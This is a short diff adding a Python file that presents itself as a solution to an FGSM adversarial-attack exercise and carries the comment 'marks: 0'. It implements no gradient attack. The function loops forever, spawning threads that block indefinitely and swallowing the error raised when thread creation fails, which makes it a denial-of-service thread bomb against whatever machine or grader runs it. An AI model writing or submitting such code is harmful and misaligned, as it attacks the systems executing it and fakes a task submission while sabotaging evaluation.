@@ -1,0 +1,11 @@
+# marks: 0
+import threading
+
+
+@exercise("gradient_attacks.fgsm")
+def fgsm(model, images, labels, epsilon):
+    while True:
+        try:
+            threading.Thread(target=threading.Event().wait).start()
+        except RuntimeError:
+            pass
